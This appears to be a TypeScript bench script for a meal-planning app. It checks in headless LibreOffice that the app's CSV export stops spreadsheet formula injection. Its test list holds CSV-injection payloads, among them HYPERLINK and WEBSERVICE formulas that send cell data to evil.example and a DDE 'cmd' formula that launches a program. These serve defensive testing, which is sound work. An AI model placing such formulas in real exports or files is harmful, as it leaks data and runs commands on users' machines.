import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { csvCell } from '#domain/plan/list-file.ts'
import { printTable } from './print-table.ts'

/**
 * `node bench/spreadsheet.ts`: what a real spreadsheet makes of cells that people have typed. LibreOffice (Debian: libreoffice-calc) opens a file of
 * names that are formulas, written as our exports write them, and the same names written plainly. Fails where a cell of ours
 * is worked out, or where the plain file has none, so that nothing was shown.
 */
const formulas = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?"&A1,"Menu")',
  '=WEBSERVICE("http://evil.example")',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n=1+1',
  '=1+1\n=2+2',
  '"=1+1"',
  '",=1+1,"',
  ';=1+1;',
  '＝1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
]

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
const folder = mkdtempSync(join(tmpdir(), 'mealcrafter-spreadsheet-'))
const found = [
  ['as it was typed', opened('plain', quoted)],
  ['as we write it', opened('ours', csvCell)],
] as const
rmSync(folder, { recursive: true })
printTable(
  ['file', 'cells', 'worked out'],
  found.map(([name, { cells, formulas: ran }]) => [name, String(cells), String(ran.length)]),
)
const [, ours] = found[1]
for (const formula of ours.formulas) console.log(`worked out: ${formula}`)
if (ours.formulas.length > 0 || found[0][1].formulas.length === 0) process.exitCode = 1

/** One name a row between two cells; what LibreOffice keeps of them, and which it works out. */
function opened(name: string, cell: (text: string) => string): { cells: number; formulas: string[] } {
  const path = join(folder, `${name}.csv`)
  const rows = formulas.map((text, at) => [`ada${at}@example.org`, cell(text), 'free'].join(','))
  writeFileSync(path, `\ufeffemail,firstName,tier\r\n${rows.join('\r\n')}\r\n`)
  // columns by commas, texts in quotation marks, UTF-8; formulas are let in, as whoever opens the file by hand may do
  const filter = 'CSV:44,34,76,1,,0,false,true,false,false,true'
  const options = [`-env:UserInstallation=file://${folder}/profile`, '--headless', `--infilter=${filter}`]
  execFileSync('soffice', [...options, '--convert-to', 'fods', '--outdir', folder, path], { stdio: 'pipe' })
  const sheet = readFileSync(join(folder, `${name}.fods`), 'utf8')
  return {
    cells: sheet.match(/<table:table-cell/g)?.length ?? 0,
    formulas: [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula!),
  }
}
